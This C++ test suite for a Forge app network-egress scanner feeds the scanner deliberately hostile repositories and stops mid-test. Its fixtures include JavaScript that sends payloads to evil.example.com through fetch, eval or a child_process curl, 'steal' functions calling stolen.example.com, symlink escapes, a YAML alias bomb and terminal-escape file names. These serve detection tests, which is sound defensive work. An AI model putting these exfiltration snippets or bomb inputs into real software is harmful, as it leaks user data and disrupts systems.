// The hostile-repository suite (issue 7, product.md §9): inputs built to crash, hang or mislead
// the scanner. Each case asserts an outcome (a diagnostic, a result, a budget notice), never a
// time; a verdict that depends on something skipped must say "incomplete" in text, JSON and SARIF.
#include <unistd.h>

#include <catch2/catch.hpp>
#include <filesystem>
#include <map>
#include <nlohmann/json.hpp>
#include <string>

#include "baseline/baseline.h"
#include "config/config.h"
#include "report/json_report.h"
#include "report/sarif_report.h"
#include "report/text_report.h"
#include "test_support.h"

namespace {

namespace fs = std::filesystem;
using fe::test::manifestFor;
using fe::test::scanFiles;
using fe::test::TempDir;

const char* kFetchIndex =
    "import { fetch } from '@forge/api';\n"
    "export const handler = async () => fetch('https://api.example.com/v1');\n";

bool hasDiagnostic(const fe::ScanResult& r, const std::string& code, const std::string& file = "") {
  for (const auto& d : r.diagnostics)
    if (d.code == code && (file.empty() || d.file == file)) return true;
  return false;
}

bool anyHost(const fe::ScanResult& r, const std::string& host) {
  for (const auto& app : r.apps)
    for (const auto& e : app.verdict.egress)
      if (e.host && *e.host == host) return true;
  return false;
}

// The app's verdict cannot be promised: every output format says so.
void requireIncomplete(const fe::ScanResult& r) {
  REQUIRE(r.apps.size() == 1);
  const fe::AppReport& app = r.apps[0];
  REQUIRE_FALSE(app.incomplete.empty());
  CHECK(fe::verdictLine(app).rfind("incomplete", 0) == 0);
  std::string json = fe::renderJson(r);
  CHECK(json.find("\"complete\": false") != std::string::npos);
  CHECK(nlohmann::json::parse(json)["apps"][0]["complete"] == false);
  std::string sarif = fe::renderSarif(r, 0);
  CHECK(sarif.find("incomplete-verdict") != std::string::npos);
  CHECK(sarif.find("\"complete\": false") != std::string::npos);
  CHECK(fe::renderText(r, false).find("incomplete") != std::string::npos);
}

void requireComplete(const fe::ScanResult& r) {
  REQUIRE(r.apps.size() == 1);
  INFO((r.apps[0].incomplete.empty() ? "" : r.apps[0].incomplete[0]));
  CHECK(r.apps[0].incomplete.empty());
}

std::string repeat(const std::string& s, size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) out += s;
  return out;
}

}  // namespace

TEST_CASE(
    "100 - 000-deep nested arrays - calls and parentheses hit the nesting limit - not the stack",
    "[hostile]") {
  const size_t n = 100000;
  auto r = scanFiles(
      {{"src/index.js", kFetchIndex},
       {"src/deep_array.js", "export const a = " + repeat("[", n) + repeat("]", n) + ";\n"},
       {"src/deep_call.js", "export const c = " + repeat("f(", n) + repeat(")", n) + ";\n"},
       {"src/deep_paren.js", "export const p = " + repeat("(", n) + "1" + repeat(")", n) + ";\n"}});
  CHECK(hasDiagnostic(r, "nesting-limit", "src/deep_array.js"));
  CHECK(hasDiagnostic(r, "nesting-limit", "src/deep_call.js"));
  CHECK(hasDiagnostic(r, "nesting-limit", "src/deep_paren.js"));
  CHECK(fe::test::hostAt(r, "src/index.js", 2) == "api.example.com");
  requireIncomplete(r);
}

TEST_CASE(
    "a 20 MB single-line minified file is skipped with a notice and the verdict is incomplete",
    "[hostile]") {
  std::string big = "var q=0;";
  big.reserve(20u << 20);
  while (big.size() < (20u << 20)) big += "function a(b){return b+1};var c=[1,2,3].map(a);";
  big += "fetch('https://hidden.example.com/'+c);\n";
  auto r = scanFiles(
      {{"src/index.js", "export const handler = async () => 1;\n"}, {"src/bundle.js", big}});
  CHECK(hasDiagnostic(r, "file-too-large", "src/bundle.js"));
  CHECK_FALSE(anyHost(r, "hidden.example.com"));
  requireIncomplete(r);
  CHECK(r.apps[0].incomplete[0].find("src/bundle.js") != std::string::npos);
}

TEST_CASE("a several-MB minified bundle under the size limit is analysed in full", "[hostile]") {
  std::string big = "import{fetch as F}from'@forge/api';var q=0;";
  for (int i = 0; big.size() < (2u << 20); ++i) {
    std::string n = std::to_string(i);
    big += "function a" + n + "(b){return b+" + n + "};var c" + n + "=[1,2,3].map(a" + n + ");";
  }
  big += "export const handler=async()=>F('https://bundle.example.com/'+c0);\n";
  auto r = scanFiles({{"src/index.js", big}});
  CHECK(anyHost(r, "bundle.example.com"));
  requireComplete(r);
}

TEST_CASE("10 - 000 files are all discovered and parsed", "[hostile]") {
  std::map<std::string, std::string> files{{"src/index.js", kFetchIndex}};
  for (int i = 0; i < 10000; ++i)
    files["src/gen/d" + std::to_string(i / 100) + "/f" + std::to_string(i) + ".js"] =
        "export const v" + std::to_string(i) + " = " + std::to_string(i) + ";\n";
  auto r = scanFiles(files);
  REQUIRE(r.apps.size() == 1);
  CHECK(r.apps[0].files == 10002);  // and the resource's src/frontend/index.jsx
  CHECK(r.filesParsed == 10002);
  CHECK(fe::test::hostAt(r, "src/index.js", 2) == "api.example.com");
  requireComplete(r);
}

TEST_CASE("a binary file and an invalid UTF-8 file with .js names", "[hostile]") {
  std::string binary;
  for (int i = 0; i < 4096; ++i) binary += static_cast<char>((i * 131 + 7) % 256);
  std::string invalid =
      "// caf\xe9 \xff\xfe\xc3\x28 \xed\xa0\x80 not UTF-8\n"
      "import { fetch } from '@forge/api';\n"
      "export const handler = async () => fetch('https://utf.example.com/\xff\xfe' + "
      "'\xc0\xaf');\n";
  auto r = scanFiles({{"src/index.js", invalid}, {"src/blob.js", binary}});
  CHECK(hasDiagnostic(r, "binary-file", "src/blob.js"));
  CHECK(fe::test::hostAt(r, "src/index.js", 3) == "utf.example.com");
  // The outputs stay well-formed with invalid bytes inside strings.
  CHECK_NOTHROW(nlohmann::json::parse(fe::renderJson(r)));
  CHECK_NOTHROW(nlohmann::json::parse(fe::renderSarif(r, 0)));
  // A .js file that was not analysed (binary content) leaves the verdict open.
  requireIncomplete(r);
}

TEST_CASE("symlink loops are not followed", "[hostile]") {
  TempDir dir;
  dir.write("manifest.yml", manifestFor());
  dir.write("src/index.js", kFetchIndex);
  fs::create_directories(dir.path() / "src/a");
  fs::create_directory_symlink("..", dir.path() / "src/a/up");  // src/a/up -> src
  fs::create_directory_symlink(".", dir.path() / "src/here");   // src/here -> src
  fs::create_symlink("self.js", dir.path() / "src/self.js");    // ELOOP
  fs::create_symlink("pong.js", dir.path() / "src/ping.js");    // ping <-> pong
  fs::create_symlink("ping.js", dir.path() / "src/pong.js");
  fe::ScanOptions options;
  options.root = dir.path().string();
  options.jobs = 1;
  auto r = fe::runScan(options);
  REQUIRE(r.apps.size() == 1);
  CHECK(r.apps[0].files == 1);
  CHECK(fe::test::countEgress(r) == 1);
  CHECK(fe::test::hostAt(r, "src/index.js", 2) == "api.example.com");
}

TEST_CASE("a symlink pointing outside the scan root is never read", "[hostile]") {
  TempDir outside, dir;
  outside.write("evil.js",
                "import { fetch } from '@forge/api';\nexport const steal = () => "
                "fetch('https://stolen.example.com/');\n");
  outside.write("lib/more.js",
                "import { fetch } from '@forge/api';\nexport const more = () => "
                "fetch('https://stolen2.example.com/');\n");
  dir.write("manifest.yml", manifestFor());
  dir.write("src/index.js",
            "import { steal } from './evil';\nimport { more } from './lib/more';\n"
            "export const handler = async () => { await steal(); await more(); };\n");
  fs::create_symlink(outside.path() / "evil.js", dir.path() / "src/evil.js");
  fs::create_directory_symlink(outside.path() / "lib", dir.path() / "src/lib");
  fe::ScanOptions options;
  options.root = dir.path().string();
  options.jobs = 1;
  auto r = fe::runScan(options);
  CHECK(hasDiagnostic(r, "symlink-outside-root", "src/evil.js"));
  CHECK_FALSE(anyHost(r, "stolen.example.com"));
  CHECK_FALSE(anyHost(r, "stolen2.example.com"));
  CHECK(fe::renderJson(r).find("stolen") == std::string::npos);
  REQUIRE(r.apps.size() == 1);
  CHECK(r.apps[0].files == 1);
}

TEST_CASE("manifest paths with ../ cannot escape the app folder", "[hostile]") {
  TempDir root;
  root.write("outside/evil.js",
             "import { fetch } from '@forge/api';\nexport const handler = () => "
             "fetch('https://stolen.example.com/');\n");
  std::string manifest = manifestFor();
  std::string::size_type at = manifest.find("handler: index.handler");
  REQUIRE(at != std::string::npos);
  manifest.replace(at, 22, "handler: ../../outside/evil.handler");
  root.write("app/manifest.yml", manifest);
  root.write("app/src/index.js", kFetchIndex);

  SECTION("scanning the app folder") {
    fe::ScanOptions options;
    options.root = (root.path() / "app").string();
    auto r = fe::runScan(options);
    REQUIRE(r.apps.size() == 1);
    CHECK(hasDiagnostic(r, "manifest-shape", "manifest.yml"));
    CHECK_FALSE(anyHost(r, "stolen.example.com"));
    CHECK(r.apps[0].files == 1);
  }
  SECTION("scanning the folder above, which holds the target") {
    fe::ScanOptions options;
    options.root = root.path().string();
    auto r = fe::runScan(options);
    REQUIRE(r.apps.size() == 1);
    CHECK(hasDiagnostic(r, "manifest-shape", "app/manifest.yml"));
    CHECK_FALSE(anyHost(r, "stolen.example.com"));
  }
  SECTION("a package path climbing out of the app") {
    std::string m = manifestFor() + "  package:\n    bundler: manual@2026\n    path: ../outside\n";
    std::string::size_type h = m.find("handler: index.handler");
    m.replace(h, 22, "handler: evil.handler");
    root.write("app/manifest.yml", m);
    fe::ScanOptions options;
    options.root = root.path().string();
    auto r = fe::runScan(options);
    REQUIRE(r.apps.size() == 1);
    CHECK_FALSE(anyHost(r, "stolen.example.com"));
  }
}

TEST_CASE("a YAML alias bomb stops at the node budget", "[hostile]") {
  std::string bomb = "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n";
  for (int i = 1; i < 10; ++i) {
    std::string prev = "*a" + std::to_string(i - 1);
    std::string name = std::string("a") + std::to_string(i);
    bomb += name;
    bomb += ": &" + name + " [";
    bomb += repeat(prev + ", ", 9);
    bomb += prev + "]\n";
  }
  std::string manifest = manifestFor() + bomb + "permissions:\n  scopes: *a9\n";
  auto r = scanFiles({{"manifest.yml", manifest}, {"src/index.js", kFetchIndex}});
  REQUIRE(r.apps.size() == 1);
  CHECK(fe::test::hostAt(r, "src/index.js", 2) == "api.example.com");
  // Either the reader never expands the aliases it does not need, or it stops at its budget
  // and then the rest of the manifest was ignored: what it declared cannot be promised.
  if (hasDiagnostic(r, "manifest-limit", "manifest.yml")) requireIncomplete(r);
}

TEST_CASE("a 10 MB manifest is refused over the limit and bounded under it", "[hostile]") {
  std::string manifest = manifestFor();
  manifest += "# padding\n";
  std::string comment = "# " + repeat("x", 97) + "\n";
  while (manifest.size() < (10u << 20)) manifest += comment;
  SECTION("over the default limit: a clear error, no scan") {
    auto r = scanFiles({{"manifest.yml", manifest}, {"src/index.js", kFetchIndex}});
    CHECK(r.inputError);
    CHECK(hasDiagnostic(r, "manifest-limit", "manifest.yml"));
  }
  SECTION("a raised limit reads it") {
    fe::ScanOptions options;
    options.maxManifestBytes = 16u << 20;
    auto r = scanFiles({{"manifest.yml", manifest}, {"src/index.js", kFetchIndex}}, options);
    REQUIRE_FALSE(r.inputError);
    CHECK(fe::test::hostAt(r, "src/index.js", 2) == "api.example.com");
  }
}

TEST_CASE("a 100 - 000-term string concatenation", "[hostile]") {
  std::string src = "import { fetch } from '@forge/api';\nconst u = 'https://concat.example.com/'";
  for (int i = 0; i < 100000; ++i) src += " + 'p" + std::to_string(i % 10) + "'";
  src += ";\nexport const handler = async () => fetch(u);\n";
  auto r = scanFiles({{"src/index.js", src}});
  REQUIRE(r.apps.size() == 1);
  // Either the host is still known, or the nesting limit says the verdict is incomplete.
  if (r.apps[0].incomplete.empty()) {
    CHECK(fe::test::hostAt(r, "src/index.js", 3) == "concat.example.com");
  } else {
    CHECK(hasDiagnostic(r, "nesting-limit", "src/index.js"));
    requireIncomplete(r);
  }
  CHECK(fe::test::countEgress(r) == 1);
}

TEST_CASE("mutually recursive imports across 1 - 000 files", "[hostile]") {
  const int n = 1000;
  std::map<std::string, std::string> files;
  for (int i = 0; i < n; ++i) {
    std::string next = std::to_string((i + 1) % n), self = std::to_string(i);
    std::string body = "import { g" + next + " } from './m" + next + "';\n";
    if (i == 500) body += "import { fetch } from '@forge/api';\n";
    body += "export function g" + self + "(d) {\n  if (d > 0) return g" + next + "(d - 1);\n";
    if (i == 500) body += "  return fetch('https://ring.example.com/' + d);\n";
    body += "  return d;\n}\n";
    files["src/m" + self + ".js"] = body;
  }
  files["src/index.js"] =
      "import { g0 } from './m0';\nexport const handler = async (req) => g0(req.payload.n);\n";
  auto r = scanFiles(files);
  CHECK(fe::test::hostAt(r, "src/m500.js", 5) == "ring.example.com");
  requireComplete(r);
}

TEST_CASE("50 - 000 functions each calling all others through a table", "[hostile]") {
  const int n = 50000;
  std::string src = "import { fetch } from '@forge/api';\nconst T = [";
  src.reserve(n * 80);
  for (int i = 0; i < n; ++i) {
    src += 'f';
    src += std::to_string(i);
    src += ", ";
  }
  src += "leak];\n";
  for (int i = 0; i < n; ++i)
    src +=
        "function f" + std::to_string(i) + "(x) { for (let k = 0; k < T.length; k++) T[k](x); }\n";
  src += "function leak(x) { return fetch('https://table.example.com/', { body: x }); }\n";
  src += "export const handler = async (req) => T[0](req.payload);\n";
  // A small budget keeps the test short; the default one is bounded too, only slower.
  fe::ScanOptions options;
  options.budget.maxSteps = 300000;
  auto r = scanFiles({{"src/index.js", src}}, options);
  REQUIRE(r.apps.size() == 1);
  CHECK(fe::test::countEgress(r) >= 1);
  // Either the solver finished within its budget, or it says where it stopped.
  if (!r.apps[0].incomplete.empty()) {
    CHECK(hasDiagnostic(r, "budget"));
    requireIncomplete(r);
  }
}

TEST_CASE("the analysis budget is configurable and reported when hit", "[hostile]") {
  fe::ScanOptions options;
  options.budget.maxSteps = 3;
  auto r = scanFiles({{"src/index.js", kFetchIndex}}, options);
  CHECK(hasDiagnostic(r, "budget", "manifest.yml"));
  requireIncomplete(r);
}

TEST_CASE("untrusted file names are escaped in every output", "[hostile]") {
  std::string name = "src/evil\x1b[31m\"<b>\n\xff.js";
  // The file does not parse: its name reaches every output through the parse-error diagnostic.
  auto r = scanFiles({{"src/index.js", kFetchIndex}, {name, "export const = ;\n"}});
  REQUIRE(hasDiagnostic(r, "parse-error", name.substr(0)));
  std::string text = fe::renderText(r, false);
  CHECK(text.find('\x1b') == std::string::npos);
  CHECK(text.find("evil\x1b") == std::string::npos);
  CHECK_NOTHROW(nlohmann::json::parse(fe::renderJson(r)));
  std::string sarif = fe::renderSarif(r, 0);
  CHECK_NOTHROW(nlohmann::json::parse(sarif));
  CHECK(sarif.find("evil%1B%5B31m%22%3Cb%3E%0A%FF.js") != std::string::npos);
}

TEST_CASE("a configuration file symlinked outside the scan root is not read", "[hostile]") {
  TempDir outside, dir;
  outside.write("secret.yml", "allow:\n  - host: api.example.com\n    reason: planted\n");
  dir.write("manifest.yml", manifestFor());
  fs::create_symlink(outside.path() / "secret.yml", dir.path() / ".forge-egress.yml");
  fe::Config config;
  fe::Diagnostics errors;
  CHECK_FALSE(fe::loadScanConfig(dir.path().string(), "", config, errors));
  REQUIRE(errors.size() == 1);
  CHECK(errors[0].message.find("outside the scan root") != std::string::npos);
  CHECK(config.allow.empty());
}

TEST_CASE("a long file with syntax errors is reported without quadratic work", "[hostile]") {
  // 400,000 top-level statements around a syntax error: the error walk stays linear.
  std::string src = repeat("a;", 200000) + "@@@ ;\n" + repeat("b;", 200000) + "\n";
  auto r = scanFiles({{"src/index.js", kFetchIndex}, {"src/broken.js", src}});
  CHECK(hasDiagnostic(r, "parse-error", "src/broken.js"));
  CHECK(fe::test::hostAt(r, "src/index.js", 2) == "api.example.com");
}

// 55 bytes found by libFuzzer: the TSX grammar's error recovery runs for minutes on them.
const char* kRunawayRecovery = "[c t> s'ofile));\n  rt } => {\n  await kvs.set't.a}`,v.p)";

TEST_CASE("runaway error recovery in the parser stops at its budget and the file is not analysed",
          "[hostile][fail-closed]") {
  auto r = scanFiles({{"src/index.js", kFetchIndex}, {"src/view.tsx", kRunawayRecovery}});
  CHECK(hasDiagnostic(r, "parse-budget", "src/view.tsx"));
  requireIncomplete(r);
  bool named = false;
  for (const auto& why : r.apps[0].incomplete)
    named = named || why.find("src/view.tsx was not analysed") != std::string::npos;
  CHECK(named);
  // The rest of the app is analysed as usual.
  CHECK(fe::test::hostAt(r, "src/index.js", 2) == "api.example.com");
}

TEST_CASE("a JavaScript file whose TSX retry runs away keeps its JavaScript parse", "[hostile]") {
  // The JavaScript grammar finds errors, so the TSX grammar is tried, and it runs away: the
  // file is analysed with the JavaScript tree, syntax errors reported (and, as any text the
  // parser could not read, they make the verdict incomplete).
  std::string src = std::string(kFetchIndex) + kRunawayRecovery + "\n";
  auto r = scanFiles({{"src/index.js", src}});
  CHECK(hasDiagnostic(r, "parse-error", "src/index.js"));
  CHECK_FALSE(hasDiagnostic(r, "parse-budget"));
  requireIncomplete(r);
  CHECK(fe::test::hostAt(r, "src/index.js", 2) == "api.example.com");
}

TEST_CASE("text the parser could not read makes the verdict incomplete", "[hostile][fail-closed]") {
  // A TypeScript cast in a .js file: the JavaScript and TSX grammars both fail on line 2,
  // and the call after it may be inside what they skipped.
  std::string src =
      "export async function handler(payload) {\n"
      "  const b = <string>JSON.stringify(payload);\n"
      "  await fetch('https://evil.example.com/x', { method: 'POST', body: b });\n"
      "}\n";
  auto r = scanFiles({{"src/index.js", src}});
  requireIncomplete(r);
  bool named = false;
  for (const auto& why : r.apps[0].incomplete)
    named = named || why.rfind("src/index.js:2 has a syntax error", 0) == 0;
  CHECK(named);
  // A parser-inserted token (a missing semicolon or brace) skips no text.
  auto ok = scanFiles({{"src/index.js", std::string(kFetchIndex) + "function f() { return 1\n"}});
  CHECK(hasDiagnostic(ok, "parse-error", "src/index.js"));
  requireComplete(ok);
  // TypeScript 5's `export type * from` is an ERROR node to the grammar, but type-only.
  auto types =
      scanFiles({{"src/index.ts", "export type * from './types';\n" + std::string(kFetchIndex)}});
  requireComplete(types);
}

// ---- fail closed: what was meant to be analysed and was not makes the verdict incomplete,
// and an incomplete verdict fails the gate unless --allow-incomplete.

TEST_CASE("a Custom UI resource whose path does not exist makes the verdict incomplete",
          "[hostile][fail-closed]") {
  std::string manifest =
      "modules:\n  jira:issuePanel:\n    - key: panel\n      resource: main\n      title: P\n"
      "resources:\n  - key: main\n    path: static/hello/build\n"
      "app:\n  id: ari:cloud:ecosystem::app/00000000-0000-0000-0000-000000000000\n";
  auto r = scanFiles({{"manifest.yml", manifest}});
  requireIncomplete(r);
  CHECK(hasDiagnostic(r, "resource-missing", "manifest.yml"));
  CHECK(fe::verdictLine(r.apps[0]).find("no external egress") == std::string::npos);
  CHECK_FALSE(fe::incompleteGateReason(r, "new", false).empty());
  CHECK_FALSE(fe::incompleteGateReason(r, "error", false).empty());
  CHECK(fe::incompleteGateReason(r, "never", false).empty());
  CHECK(fe::incompleteGateReason(r, "new", true).empty());
}

TEST_CASE("a Custom UI build folder that was not built: its source project is the frontend",
          "[hostile][fail-closed]") {
  // build/ is usually not committed: the sources beside it are still the page's code, checked
  // against fetch.client, and the project's own index.html lists the page's external scripts.
  std::string manifest =
      "modules:\n  jira:issuePanel:\n    - key: panel\n      resource: main\n      title: P\n"
      "resources:\n  - key: main\n    path: static/hello/build\n"
      "permissions:\n  external:\n    fetch:\n      client:\n        - "
      "https://api.client.example.com\n"
      "app:\n  id: ari:cloud:ecosystem::app/00000000-0000-0000-0000-000000000000\n";
  auto r =
      scanFiles({{"manifest.yml", manifest},
                 {"static/hello/package.json", "{\"name\": \"hello\"}\n"},
                 {"static/hello/public/index.html",
                  "<html><head>\n<script src=\"https://cdn.tracker.example.net/t.js\"></script>\n"
                  "</head><body><div id=\"root\"></div></body></html>\n"},
                 {"static/hello/src/App.js",
                  "import { view } from '@forge/bridge';\n"
                  "export async function load() {\n"
                  "  const ctx = await view.getContext();\n"
                  "  return fetch('https://api.client.example.com/x?site=' + ctx.cloudId);\n"
                  "}\n"}});
  // The project and the page it builds from are what the build would ship (spec 2).
  requireComplete(r);
  CHECK(hasDiagnostic(r, "resource-not-built", "manifest.yml"));
  const fe::EgressSite* e = fe::test::egressAt(r, "static/hello/src/App.js", 4);
  REQUIRE(e != nullptr);
  CHECK(e->side == fe::SourceSide::Frontend);
  CHECK_FALSE(fe::test::hasFinding(r, "FE003", "static/hello/src/App.js", 4));  // declared
  CHECK(fe::test::dataAt(r, "static/hello/src/App.js", 4) ==
        std::vector<std::string>{"install-context"});
  CHECK(fe::test::hostAt(r, "static/hello/public/index.html", 2) == "cdn.tracker.example.net");
  for (const auto& f : r.apps[0].verdict.findings) CHECK(f.ruleId != "FE005");  // client entry used
  // Without a page to build from, the page's own tags are unknown: incomplete.
  auto pageless = scanFiles({{"manifest.yml", manifest},
                             {"static/hello/package.json", "{\"name\": \"hello\"}\n"},
                             {"static/hello/src/App.js", "export const a = 1;\n"}});
  requireIncomplete(pageless);
  CHECK(hasDiagnostic(pageless, "resource-missing", "manifest.yml"));
}

TEST_CASE("stylesheets nested past the walk's depth make the verdict incomplete",
          "[hostile][fail-closed]") {
  std::string manifest =
      "modules:\n  jira:issuePanel:\n    - key: panel\n      resource: main\n      title: P\n"
      "resources:\n  - key: main\n    path: static/hello/build\n"
      "app:\n  id: ari:cloud:ecosystem::app/00000000-0000-0000-0000-000000000000\n";
  std::string deep = "static/hello/build";
  for (int i = 0; i < 40; ++i) deep += "/d";
  auto r = scanFiles({{"manifest.yml", manifest},
                      {"static/hello/build/index.html", "<html></html>\n"},
                      {deep + "/x.css", "@import 'https://fonts.example.org/a';\n"}});
  requireIncomplete(r);
  bool named = false;
  for (const auto& why : r.apps[0].incomplete)
    named = named || why.find("stylesheets") != std::string::npos;
  CHECK(named);
}

TEST_CASE("a Custom UI page that cannot be read makes the verdict incomplete",
          "[hostile][fail-closed]") {
  // index.html with binary content: its <script src> and inline scripts are unknown.
  std::string manifest =
      "modules:\n  jira:issuePanel:\n    - key: panel\n      resource: main\n      title: P\n"
      "resources:\n  - key: main\n    path: static/hello/build\n"
      "app:\n  id: ari:cloud:ecosystem::app/00000000-0000-0000-0000-000000000000\n";
  const char raw[] = "<html><script src=\"https://cdn.example.com/a.js\"></script>\0\0\0</html>";
  std::string page(raw, sizeof raw - 1);
  auto r = scanFiles({{"manifest.yml", manifest}, {"static/hello/build/index.html", page}});
  requireIncomplete(r);
  CHECK(hasDiagnostic(r, "unreadable", "static/hello/build/index.html"));
}

TEST_CASE("code built at run time or another program run makes the verdict incomplete",
          "[hostile][fail-closed]") {
  // What eval'd text, a vm script or a child process sends is unknown: each call is an
  // unanalysed-code warning at its line, and the verdict cannot be clean.
  const std::map<std::string, std::string> calls = {
      {"eval", "eval('fetch(\"https://evil.example.com/x\")');"},
      {"new Function", "new Function('p', 'return fetch(p)')(payload);"},
      {"string timer", "setTimeout('fetch(1)', 10);"},
      {"vm", "require('vm').runInThisContext(payload.code);"},
      {"child_process", "require('node:child_process').exec('curl https://evil.example.com');"},
      {"data as code", "eval(payload.code);"},
      // A module named at run time may be any code, or a URL (import() in a browser).
      {"computed import", "const plugin = await import(payload.pluginUrl); plugin.run();"},
      {"template import", "await import(`./widgets/${payload.name}.js`);"},
      {"computed require", "require(payload.name).run();"},
  };
  for (const auto& [name, call] : calls) {
    INFO(name);
    auto r = scanFiles(
        {{"src/index.js", "export async function handler(payload) {\n  " + call + "\n}\n"}}, {});
    requireIncomplete(r);
    bool atLine = false;
    for (const auto& d : r.diagnostics)
      atLine = atLine || (d.code == "unanalysed-code" && d.file == "src/index.js" && d.line == 2);
    CHECK(atLine);
  }
}

TEST_CASE("timers with functions - inert constant code and dead code stay complete",
          "[hostile][fail-closed]") {
  std::string src =
      "const root = Function('return this')();\n"   // the global object, in many bundles
      "function never() { eval(arguments[0]); }\n"  // nothing calls it
      "export async function handler(payload) {\n"
      "  await new Promise((resolve) => setTimeout(resolve, 10));\n"
      "  setTimeout(() => payload, 5);\n"
      "  await import('./util.js');\n"  // a literal name is an import the linker follows
      "  return fetch('https://api.example.com/v1');\n"
      "}\n";
  auto r = scanFiles({{"src/index.js", src}, {"src/util.js", "export const x = 1;\n"}});
  CHECK_FALSE(hasDiagnostic(r, "unanalysed-code"));
  requireComplete(r);
  CHECK(fe::test::hostAt(r, "src/index.js", 7) == "api.example.com");
}

TEST_CASE("an import of a file on disk the scan did not read makes the verdict incomplete",
          "[hostile][fail-closed]") {
  // Node runs a required .txt or extension-less file as JavaScript, loads a .node addon, and
  // a relative import reaches into node_modules/ or coverage/, which the scan leaves out.
  for (const std::string spec :
       {"./hid.txt", "./hid", "./vendor.node", "./node_modules/h.js", "./coverage/h"}) {
    INFO(spec);
    std::string target = spec.substr(2);
    if (target == "coverage/h") target += ".js";
    auto r =
        scanFiles({{"src/index.js", "const m = require('" + spec +
                                        "');\nexport const handler = async (e) => m.go(e);\n"},
                   {"src/" + target, "exports.go = (p) => fetch('https://evil.example.com');\n"}});
    requireIncomplete(r);
    CHECK(hasDiagnostic(r, "unanalysed-code", "src/index.js"));
  }
  // JSON is data, read as a module of values: the URL it holds is the host.
  auto r = scanFiles({{"src/index.js",
                       "const cfg = require('./config.json');\n"
                       "export const handler = async () => fetch(cfg.url);\n"},
                      {"src/config.json", "{\"url\": \"https://api.example.com\"}\n"}});
  requireComplete(r);
  CHECK_FALSE(hasDiagnostic(r, "unresolved-import", "src/index.js"));
  CHECK(fe::test::hostAt(r, "src/index.js", 2) == "api.example.com");
  // A module that is not in the checkout at all (generated, or not committed) is code that
  // runs and was not read; a declaration file or a `.js` name for a `.ts` file is not that.
  auto gone = scanFiles({{"src/index.js",
                          "const x = require('./generated/client');\n"
                          "export const handler = async () => x.send();\n"}});
  requireIncomplete(gone);
  CHECK(hasDiagnostic(gone, "unanalysed-code", "src/index.js"));
  auto typed =
      scanFiles({{"src/index.ts", "import { T } from './types';\nimport { f } from './util.js';\n" +
                                      std::string(kFetchIndex)},
                 {"src/types.d.ts", "export type T = string;\n"},
                 {"src/util.ts", "export const f = 1;\n"}});
  requireComplete(typed);
}

TEST_CASE("a function whose handler is invalid makes the verdict incomplete",
          "[hostile][fail-closed]") {
  for (const std::string handler : {"../../outside/index.handler", "index", "my.mod.handler"}) {
    INFO(handler);
    std::string manifest = "modules:\n  function:\n    - key: main\n      handler: " + handler +
                           "\napp:\n  id: ari:cloud:ecosystem::app/00000000-0000-0000-0000-"
                           "000000000000\n";
    auto r = scanFiles({{"manifest.yml", manifest}, {"src/index.js", kFetchIndex}});
    requireIncomplete(r);
    CHECK(hasDiagnostic(r, "handler-missing", "manifest.yml"));
  }
}

TEST_CASE("a handler that is a package's value makes the verdict incomplete",
          "[hostile][fail-closed]") {
  // The platform runs the package's code, which the scan does not read: before, the verdict
  // was clean. A modelled package's value (the resolver's definitions) is not that.
  for (const std::string index :
       {"export { handler } from 'handlers-pkg';\n",
        "module.exports = require('@acme/handlers');\n",
        "import lib from 'handlers-pkg';\nexport const handler = lib.make({ retries: 2 });\n"}) {
    INFO(index);
    auto r = scanFiles({{"src/index.js", index}});
    requireIncomplete(r);
    CHECK(hasDiagnostic(r, "handler-missing", "manifest.yml"));
  }
  auto resolver = scanFiles({{"src/index.js",
                              "import Resolver from '@forge/resolver';\n"
                              "const resolver = new Resolver();\n"
                              "resolver.define('ping', () => 'pong');\n"
                              "export const handler = resolver.getDefinitions();\n"}});
  requireComplete(resolver);
}

TEST_CASE(
    "customer data handed to a package the catalog does not model makes the verdict incomplete",
    "[hostile][fail-closed]") {
  // acme-crm's code is not in the app: whether push() sends the issue is unknown. Before,
  // "customer data stays on Atlassian: holds".
  const std::string manifest = manifestFor("trigger");
  const std::string crmIndex =
      "import { push } from 'acme-crm';\n"
      "export async function handler(event) { push({ key: event.issue.key }); }\n";
  auto crm = scanFiles({{"manifest.yml", manifest}, {"src/index.js", crmIndex}});
  requireIncomplete(crm);
  CHECK(hasDiagnostic(crm, "unmodelled-package", "src/index.js"));
  // Only constants: nothing of the customer's to send.
  auto constant =
      scanFiles({{"manifest.yml", manifest},
                 {"src/index.js",
                  "import { push } from 'acme-crm';\n"
                  "export async function handler(event) { push({ kind: 'ping' }); }\n"}});
  requireComplete(constant);
  // Packages that send nothing (lodash, date-fns, Node's crypto), and a package the catalog
  // models (a Firebase subpath module).
  auto pure = scanFiles({{"manifest.yml", manifest},
                         {"src/index.js",
                          "import _ from 'lodash';\nimport { format } from 'date-fns';\n"
                          "import { createHash } from 'crypto';\n"
                          "import { getDatabase, ref } from 'firebase/database';\n"
                          "export async function handler(event) {\n"
                          "  const s = _.get(event, 'issue.key');\n"
                          "  format(new Date(event.issue.created), 'yyyy');\n"
                          "  createHash('sha256').update(s).digest('hex');\n"
                          "  ref(getDatabase(), 'issues/' + event.issue.key);\n}\n"}});
  requireComplete(pure);
  // `purePackages` in .forge-egress.yml: the user vouches for it.
  fe::Config config;
  fe::Diagnostics errors;
  REQUIRE(fe::loadConfigText("purePackages: [acme-crm]\n", ".forge-egress.yml", config, errors));
  fe::ScanOptions options;
  fe::applyConfig(config, options);
  auto vouched = scanFiles({{"manifest.yml", manifest}, {"src/index.js", crmIndex}}, options);
  requireComplete(vouched);
}

TEST_CASE("a Custom UI resource outside the app or without its page makes the verdict incomplete",
          "[hostile][fail-closed]") {
  auto manifest = [](const std::string& path) {
    return "modules:\n  jira:issuePanel:\n    - key: panel\n      resource: main\n      title: "
           "P\nresources:\n  - key: main\n    path: " +
           path + "\n  - key: icons\n    path: static/icons\n" +
           "app:\n  id: ari:cloud:ecosystem::app/00000000-0000-0000-0000-000000000000\n";
  };
  auto outside = scanFiles(
      {{"manifest.yml", manifest("../outside/build")}, {"static/icons/a.svg", "<svg/>\n"}});
  requireIncomplete(outside);
  CHECK(hasDiagnostic(outside, "resource-outside", "manifest.yml"));
  auto noPage = scanFiles({{"manifest.yml", manifest("static/ui/build")},
                           {"static/ui/build/main.js", "fetch('https://e.example');\n"},
                           {"static/icons/a.svg", "<svg/>\n"}});
  requireIncomplete(noPage);
  CHECK(hasDiagnostic(noPage, "resource-missing", "manifest.yml"));
  // An asset folder no module shows (icons) needs no page.
